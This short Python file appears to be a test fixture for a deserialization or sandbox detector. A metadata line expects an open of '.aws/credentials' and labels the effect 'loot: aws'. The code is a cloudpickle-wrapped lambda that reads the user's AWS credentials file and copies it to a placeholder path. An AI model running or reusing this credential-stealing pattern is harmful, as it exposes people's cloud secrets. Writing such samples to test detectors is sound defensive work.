#: {"class": "pickle", "loader": "script", "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
import cloudpickle
f = lambda h, o: open(o, "w").write(open(h + "/.aws/credentials").read())
cloudpickle.loads(cloudpickle.dumps(f))(HOME, "@LOOT@")
